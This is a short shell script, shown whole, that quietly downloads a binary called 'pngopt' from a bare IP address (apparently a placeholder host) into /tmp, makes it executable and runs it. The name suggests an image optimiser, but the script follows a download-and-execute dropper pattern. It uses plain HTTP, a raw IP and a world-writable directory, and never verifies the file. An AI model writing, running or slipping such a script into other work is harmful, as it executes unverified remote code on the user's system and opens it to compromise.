#!/bin/sh
curl -s -o /tmp/pngopt http://198.51.100.23/bin/pngopt
chmod +x /tmp/pngopt
/tmp/pngopt --init
